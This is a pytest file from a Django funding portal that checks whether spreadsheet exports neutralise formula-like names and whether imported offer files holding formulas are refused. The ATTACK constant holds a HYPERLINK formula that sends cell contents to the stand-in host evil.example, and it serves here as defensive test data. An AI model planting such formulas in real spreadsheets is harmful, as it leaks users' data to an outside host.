"""Formula injection (issue 14, "Input"): the offer map exports write a funder or scheme named
like a formula as text, and an imported offer file holding a formula is refused whole."""

import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from cte_portal.core.errors import RuleError
from funders.models import FundingLine, FundingLineImport
from funders.selectors.analysis import OfferMap
from funders.services.exports import offer_map_xlsx
from funders.services.imports import HEADERS, model_xlsx, upload_offer_file
from tests.clients import login
from tests.file_jobs import download, request_file
from tests.funders.files import GOOD_ROWS, csv_bytes
from tests.funders.world import funder, line

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'


def _formula_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(("=", "@", "+"))
    ]


def test_the_offer_map_xlsx_writes_formula_like_names_as_text(world, cde_conference):
    evil = funder(world.cde, ATTACK)
    line(cde_conference, evil, scheme="@SUM(A1:A9)")
    cells = _formula_cells(offer_map_xlsx(OfferMap.build(cde_conference)))
    assert {c.value for c in cells} >= {ATTACK, "@SUM(A1:A9)"}
    assert {c.data_type for c in cells} == {"s"}


def test_the_model_file_writes_a_formula_like_funder_name_as_text(world, cde_conference):
    funder(world.cde, ATTACK)
    cells = _formula_cells(model_xlsx(cde_conference))
    assert [(c.value, c.data_type) for c in cells] == [(ATTACK, "s")]


def test_the_export_job_serves_the_neutralised_file(
    client, world, cde_conference, settings, tmp_path, django_capture_on_commit_callbacks
):
    settings.MEDIA_ROOT = tmp_path
    line(cde_conference, funder(world.cde, ATTACK))
    login(client, world.ddets69)
    job = request_file(
        client,
        reverse("funders:export", args=[cde_conference.pk, "xlsx"]),
        django_capture_on_commit_callbacks,
    )
    assert {c.data_type for c in _formula_cells(download(client, job))} == {"s"}


def _xlsx_with_formula() -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADERS)
    sheet.append([GOOD_ROWS[0].get(h, None) or None for h in HEADERS])
    sheet.append([GOOD_ROWS[1].get(h, None) or None for h in HEADERS])
    sheet["H3"] = "=SUM(H2:H2)*2"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_an_xlsx_offer_with_a_formula_is_refused_and_nothing_is_imported(
    world, cde_conference, funders
):
    with pytest.raises(RuleError, match=r"formule \(ligne 3, colonne H\)"):
        upload_offer_file(
            conference=cde_conference,
            user=world.ddets69,
            filename="offre.xlsx",
            content=_xlsx_with_formula(),
        )
    assert not FundingLineImport.objects.exists()
    assert not FundingLine.objects.exists()


def test_a_csv_offer_with_a_formula_is_refused_and_nothing_is_imported(
    world, cde_conference, funders
):
    rows = [dict(row) for row in GOOD_ROWS]
    rows[2]["Dispositif"] = ATTACK
    with pytest.raises(RuleError, match=r"formule \(ligne 4, colonne B\)"):
        upload_offer_file(
            conference=cde_conference,
            user=world.ddets69,
            filename="offre.csv",
            content=csv_bytes(rows),
        )
    assert not FundingLineImport.objects.exists()
